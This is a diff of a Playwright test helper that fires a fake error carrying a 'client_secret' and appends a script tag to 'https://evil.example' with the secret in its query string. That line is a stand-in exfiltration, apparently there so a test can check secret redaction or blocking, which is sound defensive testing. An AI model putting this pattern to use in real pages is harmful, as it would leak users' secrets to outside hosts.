@@ -5,9 +5,9 @@ export const provokeReports = (page: Page, secret: string): Promise<void> =>
   page.evaluate((secret) => {
     const files = performance.getEntriesByType('resource').map(({ name }) => name);
     const file = files.find((name) => name.includes('/remotes/mf-checkout/'));
-    const error = new Error(`Lost at ${window.location.href}?client_secret=${secret}`);
-    error.stack = `Error: ${error.message}\n    at open (${file}:1:1)`;
-    window.dispatchEvent(new ErrorEvent('error', { error }));
+    // Text, whose file the browser names: of an error the engine says that this code has made it.
+    const error = `Lost at ${window.location.href}?client_secret=${secret}`;
+    window.dispatchEvent(new ErrorEvent('error', { error, ...(file && { filename: file }) }));
     const script = document.createElement('script');
     script.src = `https://evil.example${window.location.pathname}?${secret}`;
     document.body.append(script);
